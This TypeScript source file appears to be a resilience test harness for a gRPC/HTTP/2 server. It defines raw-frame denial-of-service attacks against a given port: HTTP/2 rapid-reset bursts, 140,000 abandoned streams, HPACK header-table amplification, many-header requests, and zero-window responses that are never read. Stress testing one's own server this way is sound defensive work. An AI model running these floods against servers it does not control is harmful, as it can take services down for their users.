import type { Attack, Sent } from "./attack.ts";
import { bounded, floodMs } from "./bounded.ts";
import {
  flag,
  frame,
  frameType,
  getHeaders,
  grpcRequestHeaders,
  literal,
  newest,
  remembered,
  uint32,
} from "./bytes/frames.ts";
import { RawH2 } from "./bytes/raw-h2.ts";

const get = "/mcpmanager.v1.ManagerService/Get";
const burst = 21_000;
/** As long as one burst may take to be answered. */
const answerMs = 15_000;
const cancel = uint32(8);
const whole = flag.endHeaders | flag.endStream;
/** GetRequest of the server echo, in gRPC's envelope. */
const getEcho = Buffer.concat([Buffer.of(0, 0, 0, 0, 6, 0x0a, 4), Buffer.from("echo")]);

/** So many streams' frames, of the first and all later odd numbers. */
function streams(count: number, framesOf: (stream: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => framesOf(index * 2 + 1)));
}

interface Burst {
  /** How many connections, each with as many streams. */
  readonly connections?: number;
  readonly count?: number;
  /** False: nothing is to be answered. */
  readonly awaited?: boolean;
}

/** All of a connection's streams in one write, on all connections at once; then it waits for as many answers. */
function burstOf(
  name: string,
  framesOf: (stream: number) => Buffer,
  { connections: opened = 1, count = burst, awaited = true }: Burst = {},
): Attack {
  return {
    name,
    single: false,
    async run(port, signal) {
      const frames = streams(count / opened, framesOf);
      const connections = await Promise.all(Array.from({ length: opened }, () => RawH2.open(port, { signal })));
      await Promise.all(
        connections.map(async ({ socket }, index) => {
          await socket.write(frames);
          const one = connections[index];
          const all = () => one !== undefined && one.answered + one.reset >= count / opened;
          await socket.until(all, awaited ? answerMs : floodMs);
        }),
      );
      return closed(connections, count);
    },
  };
}

/** Closes them, and says what came of it. */
function closed(connections: readonly RawH2[], count: number): Sent {
  const outcome = outcomeOf(connections);
  for (const { socket } of connections) socket.destroy();
  return { bytes: connections.reduce((sum, { socket }) => sum + socket.sentBytes, 0), count, outcome };
}

const getHealth = getHeaders("/health");
const call = grpcRequestHeaders(get);

function health(stream: number): Buffer {
  return frame({ type: frameType.headers, flags: whole, stream, payload: getHealth });
}

function unary(stream: number): Buffer {
  return Buffer.concat([
    frame({ type: frameType.headers, flags: flag.endHeaders, stream, payload: call }),
    frame({ type: frameType.data, flags: flag.endStream, stream, payload: getEcho }),
  ]);
}

function resetAtOnce(stream: number): Buffer {
  return Buffer.concat([
    frame({ type: frameType.headers, flags: flag.endHeaders, stream, payload: call }),
    frame({ type: frameType.rstStream, stream, payload: cancel }),
  ]);
}

/** The large header is put into the table by the first request; all later ones name it so often by a byte each. */
function references(times: number, valueBytes: number): (stream: number) => Buffer {
  const first = Buffer.concat([getHealth, remembered("x-large", "v".repeat(valueBytes))]);
  const later = Buffer.concat([getHealth, Buffer.alloc(times, newest)]);
  return (stream) => frame({ type: frameType.headers, flags: whole, stream, payload: stream === 1 ? first : later });
}

const leftConnections = 14;
const leftEach = 10_000;

const left: Attack = {
  name: "140,000 streams opened and left",
  single: false,
  async run(port, signal) {
    const frames = streams(leftEach, (stream) =>
      frame({ type: frameType.headers, flags: flag.endHeaders, stream, payload: call }),
    );
    const connections: RawH2[] = [];
    const open = async () => {
      const connection = await RawH2.open(port, { signal }).catch(() => undefined);
      if (connection === undefined) return false;
      connections.push(connection);
      await connection.socket.write(frames);
      return true;
    };
    const count = await bounded(open, { signal, most: leftConnections, ms: answerMs });
    await connections.at(-1)?.socket.until(() => false, floodMs);
    return closed(connections, count * leftEach);
  },
};

/** Of resets, one connection may have a thousand before Node closes it. */
const spread = { connections: 21 };

const getOpenApi = getHeaders("/openapi.json");

/** Answers that no window lets through. */
const unread: Attack = {
  name: "8,000 GET /openapi.json that are not read, HTTP/2",
  single: false,
  async run(port, signal) {
    const frames = streams(1000, (stream) =>
      frame({ type: frameType.headers, flags: whole, stream, payload: getOpenApi }),
    );
    const open = () => RawH2.open(port, { signal, window: 0 });
    const connections = await Promise.all(Array.from({ length: 8 }, open));
    await Promise.all(connections.map(({ socket }) => socket.write(frames)));
    await connections[0]?.socket.until(() => false, floodMs);
    return closed(connections, connections.length * 1000);
  },
};

export const streamFloods: readonly Attack[] = [
  left,
  burstOf("21,000 resets", resetAtOnce, { awaited: false }),
  burstOf("21,000 resets, 21 connections", resetAtOnce, { ...spread, awaited: false }),
  burstOf("21,000 GET /health, HTTP/2", health),
  burstOf("21,000 GET /health, 21 connections", health, spread),
  burstOf("21,000 unary calls", unary),
  burstOf("21,000 unary calls, 21 connections", unary, spread),
  burstOf("21,000 requests of 60 headers", manyHeaders(60)),
  burstOf("HPACK: 21,000 requests, 15 references of 4 kB each", references(15, 4000)),
  burstOf("HPACK: the same, 21 connections", references(15, 4000), spread),
  burstOf("HPACK: 21,000 requests, 100 references of 500 B each", references(100, 500)),
  burstOf("HPACK: 2,000 requests, 4,000 references of 4 kB each", references(4000, 4000), { count: 2000 }),
  unread,
];

function manyHeaders(count: number): (stream: number) => Buffer {
  const payload = Buffer.concat([
    getHealth,
    ...Array.from({ length: count }, (_, index) => literal(`x-${index}`, "1")),
  ]);
  return (stream) => frame({ type: frameType.headers, flags: whole, stream, payload });
}

function outcomeOf(connections: readonly RawH2[]): string {
  const sum = (of: (connection: RawH2) => number) => connections.reduce((total, one) => total + of(one), 0);
  const goAways = connections.filter(({ goAway }) => goAway !== undefined);
  const gone = sum(({ socket }) => Number(socket.closed));
  return [
    `${sum(({ answered }) => answered)} answered`,
    `${sum(({ reset }) => reset)} reset`,
    ...(goAways.length > 0 ? [`${goAways.length} GOAWAY ${goAways[0]?.goAway}`] : []),
    ...(gone > 0 ? [`${gone} of ${connections.length} closed`] : []),
  ].join(", ");
}
